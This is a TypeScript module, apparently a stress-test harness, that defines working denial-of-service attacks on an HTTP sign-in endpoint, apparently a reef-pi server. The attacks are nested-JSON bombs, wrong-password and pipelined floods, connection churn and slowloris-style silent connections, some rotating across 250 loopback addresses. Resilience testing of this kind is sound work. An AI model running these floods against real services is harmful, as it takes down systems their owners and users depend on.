// What a stranger on the network can send. Each attack goes on until its time is over.
import { connect, type Socket } from "node:net";
import { type ConnectionOptions, connect as connectTls } from "node:tls";
import type { Aim, Attack } from "./aim.ts";

/** The address that a connection comes from. */
type From = (index: number) => string | undefined;

const CONNECTIONS = 300;
const isOver = ({ until }: Aim): boolean => Date.now() >= until;

/** Every connection of its own address of the loopback net, or all of the same. */
function opened({ host, port, isTls }: Aim, from: string | undefined): Promise<Socket | undefined> {
  const options: ConnectionOptions = { host, port, rejectUnauthorized: false };
  return new Promise((resolve) => {
    const plain = connect({ host, port, ...(from === undefined ? {} : { localAddress: from }) });
    const socket = isTls ? connectTls({ ...options, socket: plain }) : plain;
    plain.on("error", () => undefined);
    socket.on("error", () => undefined);
    socket.once(isTls ? "secureConnect" : "connect", () => resolve(socket));
    socket.once("close", () => resolve(undefined));
    plain.once("close", () => resolve(undefined));
    socket.resume();
  });
}

const request = (body: string, length = Buffer.byteLength(body)): string =>
  `POST /auth/signin HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${length}\r\n\r\n${body}`;

const gone = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.closed) resolve();
    else socket.once("close", () => resolve());
  });
const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Connections that each hold all but the last byte of a request back, and then let go of it together. */
const prepared =
  (body: string, from: From): Attack =>
  async (aim) => {
    let times = 0;
    for (; !isOver(aim); times++) {
      const sockets = await Promise.all(
        Array.from({ length: CONNECTIONS }, async (_, index) => {
          const socket = await opened(aim, from(index));
          socket?.write(request(body.slice(0, -1), body.length));
          return socket;
        }),
      );
      await pause(300);
      for (const socket of sockets) socket?.write(body.slice(-1));
      await Promise.race([Promise.all(sockets.map((socket) => socket && gone(socket))), pause(700)]);
      for (const socket of sockets) socket?.destroy();
    }
    return times;
  };

/** Does it over and over on so many connections at a time until the time is over. Resolves to how often. */
async function repeated(count: number, aim: Aim, once: (index: number) => Promise<void>): Promise<number> {
  let times = 0;
  const again = async (index: number): Promise<void> => {
    while (!isOver(aim)) {
      await once(index);
      times += 1;
      await pause(1);
    }
  };
  await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
  return times;
}

/** Writes as much as the other side takes until it closes. */
async function pour(socket: Socket, text: string, aim: Aim): Promise<void> {
  while (!isOver(aim) && !socket.closed && !socket.destroyed) {
    if (socket.write(text)) await pause(1);
    else await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), gone(socket)]);
  }
}

/** Connections that pipeline requests, each reopened when it is closed. */
const flood =
  (text: string, from: From): Attack =>
  (aim) =>
    repeated(CONNECTIONS, aim, async (index) => {
      const socket = await opened(aim, from(index));
      if (socket !== undefined) await pour(socket, text, aim);
      socket?.destroy();
    });

/** Connections that are opened, and left without a word until they are closed. */
const silent =
  (count: number, from: From): Attack =>
  (aim) =>
    repeated(count, aim, async (index) => {
      const socket = await opened(aim, from(index));
      const patience = Math.max(0, aim.until - Date.now());
      if (socket !== undefined) await Promise.race([gone(socket), pause(patience)]);
      socket?.destroy();
    });

/** Connections that are opened and given up. */
const knocking =
  (from: From): Attack =>
  (aim) =>
    repeated(CONNECTIONS, aim, async (index) => {
      (await opened(aim, from(index)))?.destroy();
    });

const one = (): undefined => undefined;
/** Each machine of a network, or as many as the loopback net pretends to have. */
const many = (index: number): string => `127.0.${1 + (index % 3)}.${1 + (index % 250)}`;
const PAIR = JSON.stringify({ user: "reef-pi", password: "wrong-password" });
const PAGE = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";

/** By what they are called in the table. */
export const ATTACKS = {
  "sign-ins of 1 MiB of nested JSON, prepared on 300 connections": prepared("[".repeat(1_048_000), one),
  "sign-ins of 1 MiB of nested JSON, from 250 addresses": prepared("[".repeat(1_048_000), many),
  "sign-ins of 1 MiB of short lists, from 250 addresses": prepared(`[${"[],".repeat(340_000)}[]]`, many),
  "sign-ins of 4 KB of nested JSON, from 250 addresses": prepared("[".repeat(4000), many),
  "wrong passwords on 300 connections": flood(request(PAIR), one),
  "wrong passwords from 250 addresses": flood(request(PAIR), many),
  "pipelined sign-ins, from 250 addresses": flood(request(PAIR).repeat(400), many),
  "pipelined page requests, from 250 addresses": flood(PAGE.repeat(1500), many),
  "malformed sign-ins, from 250 addresses": flood(request("{".repeat(40)).repeat(200), many),
  "invalid bytes on 300 connections": flood("x".repeat(60_000), many),
  "connections opened and dropped, from 250 addresses": knocking(many),
  "600 silent connections": silent(600, one),
  "2500 silent connections from 250 addresses": silent(2500, many),
} as const satisfies Readonly<Record<string, Attack>>;
